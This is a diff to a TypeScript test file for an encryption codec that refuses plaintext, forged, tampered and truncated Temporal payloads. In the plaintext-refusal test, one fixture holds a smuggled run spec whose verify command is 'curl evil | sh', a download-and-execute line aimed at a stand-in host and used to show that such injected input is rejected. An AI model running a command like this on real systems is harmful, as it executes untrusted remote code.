@@ -1,5 +1,8 @@
 import { randomBytes } from 'node:crypto';
 import { describe, expect, it } from 'vitest';
+import type { PayloadCodec } from '@temporalio/common';
+import { controlSchemas } from '../src/api/control.js';
+import { describeIssues, runSpecSchema } from '../src/api/spec.js';
 import { codecFromEnv, dataConverterFromEnv, ENCRYPTED_ENCODING, FAILURE_CONVERTER_PATH, keyId, KEY_ID_METADATA } from '../src/ops/codec.js';
 
 const newKey = () => randomBytes(32).toString('base64');
@@ -25,7 +28,7 @@ describe('encryption codec', () => {
     expect(text(back.metadata!.encoding)).toBe('json/plain');
   });
 
-  it('passes payloads written before encryption was on through decode', async () => {
+  it('passes payloads written before encryption was on through the inspecting decode (codec server, doctor)', async () => {
     const codec = codecFromEnv({ TETHER_ENCRYPTION_KEY: newKey() })!;
     const [back] = await codec.decode([json('old')]);
     expect(text(back.data)).toBe('"old"');
@@ -79,5 +82,43 @@ describe('encryption codec', () => {
 
   it('encrypts failure messages too when a key is set', () => {
     expect(dataConverterFromEnv({ TETHER_ENCRYPTION_KEY: newKey() })).toMatchObject({ failureConverterPath: FAILURE_CONVERTER_PATH });
+  });
+});
+
+describe("the clients' and workers' codec, with encryption on", () => {
+  const workerCodec = (env: NodeJS.ProcessEnv) => dataConverterFromEnv(env)!.payloadCodecs![0] as PayloadCodec;
+  const decoded = (payload: { data?: Uint8Array | null }) => JSON.parse(text(payload.data));
+
+  it('decodes a plaintext payload into a refusal that the run validation reports as such', async () => {
+    const codec = workerCodec({ TETHER_ENCRYPTION_KEY: newKey() });
+    const [refused] = await codec.decode([json({ goal: 'sneak in', model: 'scripted:x', verify: { command: 'curl evil | sh' } })]);
+    const spec = runSpecSchema.safeParse(decoded(refused));
+    expect(spec.success).toBe(false);
+    expect(describeIssues(spec.error!)).toMatch(/^unencrypted payload refused: encryption is on/);
+    const kill = controlSchemas.kill.safeParse(decoded((await codec.decode([json({ reason: 'plain' })]))[0]));
+    expect(describeIssues(kill.error!)).toMatch(/^unencrypted payload refused/);
+  });
+
+  it('never throws on a forged, tampered or foreign payload, which would fail the workflow task forever', async () => {
+    const codec = workerCodec({ TETHER_ENCRYPTION_KEY: newKey() });
+    const forged = { metadata: { encoding: Buffer.from(ENCRYPTED_ENCODING), [KEY_ID_METADATA]: Buffer.from('deadbeef') }, data: Buffer.from('x'.repeat(40)) };
+    const [sealed] = await codec.encode([json('x')]);
+    const tampered = { ...sealed, data: Buffer.from(sealed.data!).fill(7, 20, 24) };
+    const truncated = { ...sealed, data: Buffer.from('short') };
+    const [wrongKey, altered, cut] = await codec.decode([forged, tampered, truncated]);
+    expect(Object.keys(decoded(wrongKey))[0]).toMatch(/^payload refused: payload was encrypted with key deadbeef, which is not among the configured keys/);
+    expect(Object.keys(decoded(altered))[0]).toMatch(/^payload refused: .*failed authentication/);
+    expect(Object.keys(decoded(cut))[0]).toMatch(/^payload refused: .*truncated/);
+  });
+
+  it('still opens what it sealed', async () => {
+    const codec = workerCodec({ TETHER_ENCRYPTION_KEY: newKey() });
+    const [back] = await codec.decode(await codec.encode([json({ goal: 'real' })]));
+    expect(decoded(back)).toEqual({ goal: 'real' });
+  });
+
+  it('lets plaintext through with TETHER_ENCRYPTION_ACCEPT_PLAINTEXT=1, for runs started before encryption was on', async () => {
+    const codec = workerCodec({ TETHER_ENCRYPTION_KEY: newKey(), TETHER_ENCRYPTION_ACCEPT_PLAINTEXT: '1' });
+    expect(decoded((await codec.decode([json('old')]))[0])).toBe('old');
   });
 });
